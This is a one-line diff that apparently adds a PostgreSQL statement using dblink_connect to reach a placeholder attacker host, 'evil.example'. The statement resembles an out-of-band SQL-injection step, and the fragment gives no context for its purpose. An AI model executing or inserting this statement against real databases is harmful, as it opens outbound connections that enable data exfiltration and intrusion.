@@ -1,0 +1,1 @@
+SELECT dblink_connect('c', 'host=evil.example user=x')
